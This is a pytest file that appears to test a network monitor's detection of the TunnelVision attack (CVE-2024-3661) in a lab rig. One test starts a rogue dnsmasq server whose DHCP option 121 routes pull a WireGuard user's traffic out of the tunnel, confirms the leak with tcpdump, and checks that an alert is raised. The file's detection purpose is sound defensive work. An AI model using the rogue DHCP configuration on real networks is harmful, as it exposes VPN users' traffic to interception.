"""TunnelVision (CVE-2024-3661): a DHCP server's routes pull a WireGuard user's traffic out of the tunnel."""

from __future__ import annotations

import pytest

from tests.net.rig.dnsmasq import Dnsmasq
from tests.net.rig.lab import Lab
from tests.net.rig.shared_air import ATTACKER4, ROUTER4, SharedAir
from tests.net.rig.waiting import wait_until
from tests.net.rig.wireguard import PORT, WireGuard
from tests.net.watched import Watched

pytestmark = [
    pytest.mark.root,
    pytest.mark.rig("wireguard-go", "wg", "dnsmasq", "dhclient", "tcpdump", "ping"),
]

PEER, PEER_INSIDE, LAPTOP_INSIDE = "203.0.113.50", "10.99.0.1", "10.99.0.2"
FAR = "198.51.100.7"
# What Debian's own client does with the routes, and nothing else of what it does.
SCRIPT = "#!/bin/sh\n. /etc/dhcp/dhclient-exit-hooks.d/rfc3442-classless-routes\n"
CLIENT = """
option rfc3442-classless-static-routes code 121 = array of unsigned integer 8;
request subnet-mask, routers, rfc3442-classless-static-routes;
"""


def test_the_routes_are_told_and_that_the_vpn_is_bypassed(lab: Lab) -> None:
    air = SharedAir(lab, 4)
    air.router.address("lo", f"{PEER}/32", f"{FAR}/32")
    there = WireGuard(air.router, "wg-peer", f"{PEER_INSIDE}/24")
    here = WireGuard(air.laptop, "wg-laptop", f"{LAPTOP_INSIDE}/24")
    here.peer(there.key, "0.0.0.0/0", "endpoint", f"{PEER}:{PORT}")
    there.peer(here.key, f"{LAPTOP_INSIDE}/32")
    air.laptop.ip(
        f"route add default dev wg-laptop table {PORT}",
        f"rule add not fwmark {PORT} table {PORT}",
        "rule add table main suppress_prefixlength 0",
    )
    wait_until(lambda: air.laptop.run("ping", "-nqc1", "-W1", FAR, check=False).returncode == 0, "the VPN to work")
    watched = Watched(air.laptop)

    stolen = air.attacker.start("tcpdump", "tcpdump", "--immediate-mode", "-lnni", "eth0", f"icmp and dst host {FAR}")
    stolen.wait_for_output("listening on")
    air.laptop.run("ping", "-nqc1", "-W1", FAR)
    assert not stolen.output(), "before the attack, everything is inside the tunnel"

    folder = lab.processes.subfolder("attack")
    rogue = folder / "dnsmasq.conf"
    rogue.write_text(
        "port=0\ninterface=eth0\nbind-interfaces\nuser=root\npid-file\ndhcp-authoritative\nno-ping\n"
        f"dhcp-range=10.23.0.210,10.23.0.220,1h\ndhcp-leasefile={folder}/leases\ndhcp-option=3,{ROUTER4}\n"
        f"dhcp-option=121,198.51.100.0/24,{ATTACKER4}\n"
    )
    server = air.attacker.start("rogue", "dnsmasq", "--keep-in-foreground", f"--conf-file={rogue}")
    air.attacker.wait_listening(server, 67, protocol="udp")
    script, client = folder / "script", folder / "dhclient.conf"
    script.write_text(SCRIPT)
    script.chmod(0o755)
    client.write_text(CLIENT)
    files = ("-cf", str(client), "-sf", str(script), "-lf", f"{folder}/client", "-pf", f"{folder}/pid")
    asking = air.laptop.start("dhclient", "dhclient", "-1", "-d", *files, "wlan0")
    asking.wait_for_output("bound to", timeout=20)

    found = watched.wait_for("dhcp-route-injection")
    assert (found["severity"], found["state"]) == ("high", "new")
    assert found["evidence"]["routes"] == [f"198.51.100.0/24 via {ATTACKER4}"]
    assert found["evidence"]["option"] == 121
    assert "VPN" in found["evidence"]["vpn"]
    air.laptop.run("ping", "-nqc1", "-W1", FAR, check=False)
    wait_until(stolen.output, "the traffic to come by in the open: the attack is a real one")


def test_an_honest_lease_says_nothing_about_the_vpn(lab: Lab) -> None:
    air = SharedAir(lab, 4)
    WireGuard(air.laptop, "wg-laptop", f"{LAPTOP_INSIDE}/24")
    watched = Watched(air.laptop)
    Dnsmasq(air.router, {})
    folder = lab.processes.subfolder("client")
    honest = air.router.start(
        "dhcp",
        *("dnsmasq", "--keep-in-foreground", "--port=0", "--interface=eth0", "--bind-interfaces", "--user=root"),
        *("--pid-file", "--no-ping", "--dhcp-range=10.23.0.100,10.23.0.110,1h", f"--dhcp-leasefile={folder}/leases"),
    )
    air.router.wait_listening(honest, 67, protocol="udp")
    files = ("-sf", "/bin/true", "-lf", f"{folder}/client", "-pf", f"{folder}/pid")
    air.laptop.start("dhclient", "dhclient", "-1", "-d", *files, "wlan0").wait_for_output("bound to", timeout=20)
    assert watched.printed("dhcp-route-injection") == []
